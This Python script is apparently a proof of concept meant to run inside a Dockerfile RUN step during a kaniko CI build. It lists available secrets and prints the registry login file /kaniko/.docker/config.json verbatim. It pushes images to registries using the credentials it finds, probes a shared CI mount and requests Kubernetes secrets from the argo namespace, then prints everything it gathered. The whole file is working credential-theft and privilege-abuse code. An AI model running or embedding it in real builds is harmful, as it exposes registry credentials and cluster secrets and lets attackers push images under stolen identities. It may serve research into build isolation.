"""What a Dockerfile's RUN does: it tells all that it can read, and pushes with the logins that it finds."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import looking  # beside this file
from kaniko.images import Reference, RegistryError
from kaniko.registry import Registry, logins

MANIFEST = "application/vnd.oci.image.manifest.v1+json"
CONFIG = b"{}"
DIGEST = "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a"
LOGINS = Path("/kaniko/.docker")


def push(target: Reference) -> str:
    """Pushes an image without layers; returns what came of it."""
    client = Registry(target.host, login=logins(LOGINS).get(target.host), plain=True)
    config = {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": DIGEST, "size": len(CONFIG)}
    manifest = {"schemaVersion": 2, "mediaType": MANIFEST, "config": config, "layers": []}
    try:
        client.upload(target, DIGEST, CONFIG)
        client.put_manifest(target, json.dumps(manifest).encode(), MANIFEST)
    except RegistryError as err:
        return str(err)
    return "pushed"


told = {
    "secrets": sorted(looking.secrets()),
    "logins": LOGINS.joinpath("config.json").read_text(),
    "pushes": {text: push(Reference.parse(text)) for text in sys.argv[1:]},
    "shared": Path("/mnt/ci").exists(),
    "api": looking.api("/api/v1/namespaces/argo/secrets"),
}
print("FOUND " + json.dumps(told), flush=True)
